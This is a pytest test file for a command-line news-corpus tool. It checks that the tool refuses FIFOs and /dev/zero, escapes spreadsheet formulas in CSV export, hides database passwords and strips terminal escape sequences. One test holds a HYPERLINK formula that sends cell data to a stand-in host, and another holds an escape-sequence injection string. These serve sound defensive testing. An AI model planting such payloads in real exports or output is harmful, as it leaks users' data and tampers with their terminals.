"""The commands under hostile input: a FIFO or /dev/zero is one line and exit 2, not a hang or
a read without end; CSV export never hands a spreadsheet a live formula; no printed line holds
a database password or a terminal escape sequence."""

from __future__ import annotations

import csv
import os
import resource
import subprocess
import sys
from pathlib import Path

import pytest
from hostile_inputs import dossier
from typer.testing import CliRunner

from presslens.cli import app
from presslens.store import open_store

pytestmark = pytest.mark.hostile

PASSWORD = "s3cret-pw"
PG_URL = f"postgresql://writer:{PASSWORD}@db.example.org:5432/corpus"


def cap_memory() -> None:
    # an unbounded read dies at 3 GB instead of taking the machine with it
    resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))


def run_cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "presslens.cli", *args],
        capture_output=True,
        text=True,
        timeout=60,
        preexec_fn=cap_memory,
    )


@pytest.fixture
def fifo(tmp_path: Path) -> Path:
    path = tmp_path / "article.txt"
    os.mkfifo(path)
    return path


def test_analyze_refuses_a_fifo_without_waiting_for_a_writer(fifo: Path) -> None:
    done = run_cli("analyze", str(fifo))
    assert done.returncode == 2
    assert done.stderr.count("\n") == 1 and "named pipe" in done.stderr


def test_analyze_refuses_dev_zero_without_reading_it() -> None:
    done = run_cli("analyze", "/dev/zero")
    assert done.returncode == 2
    assert done.stderr.count("\n") == 1 and "device" in done.stderr


def test_csv_export_escapes_formulas(tmp_path: Path) -> None:
    db = tmp_path / "corpus.db"
    title = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    with open_store(db) as store:
        store.save(dossier(title, "+1 and -1 and @SUM(A1) are not formulas here."), sha256="a")
    out = tmp_path / "out"
    result = CliRunner().invoke(app, ["export", "-o", str(out), "-f", "csv", "--db", str(db)])
    assert result.exit_code == 0, result.output
    with (out / "articles.csv").open(encoding="utf-8", newline="") as handle:
        row = next(csv.DictReader(handle))
    assert row["title"] == "'" + title  # shown as text, never run
    assert row["word_count"] == "9"  # numbers stay numbers


def test_serve_does_not_print_the_password(monkeypatch: pytest.MonkeyPatch) -> None:
    import uvicorn

    import presslens.store
    import presslens.web.app

    class Opened:
        def close(self) -> None:
            pass

    monkeypatch.setattr(presslens.store, "open_store", lambda location: Opened())
    monkeypatch.setattr(presslens.web.app, "create_app", lambda location, **options: None)
    monkeypatch.setattr(uvicorn, "run", lambda *args, **kwargs: None)
    result = CliRunner().invoke(app, ["serve", "--db", PG_URL])
    assert result.exit_code == 0, result.output
    assert "db.example.org" in result.output and PASSWORD not in result.output


def test_batch_does_not_print_the_password(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    import presslens.batch.run

    monkeypatch.setattr(
        presslens.batch.run, "run_batch", lambda *a, **k: presslens.batch.run.Summary()
    )
    article = tmp_path / "a.txt"
    article.write_text("Title\n\nBody text here.", encoding="utf-8")
    result = CliRunner().invoke(app, ["batch", str(article), "--out", PG_URL, "--resume"])
    assert result.exit_code == 0, result.output
    assert "db.example.org" in result.output and PASSWORD not in result.output


def test_search_output_has_no_terminal_escapes(tmp_path: Path) -> None:
    db = tmp_path / "corpus.db"
    escape = "\x1b]0;owned\x07\x1b[2J\x1b[31m"
    with open_store(db) as store:  # stored before ingest dropped control characters
        store.save(
            dossier(f"Port {escape}news", f"The port {escape}reopens on Monday."), sha256="a"
        )
    result = CliRunner().invoke(app, ["search", "port", "--db", str(db)])
    assert result.exit_code == 0, result.output
    assert "Port" in result.output and "reopens" in result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
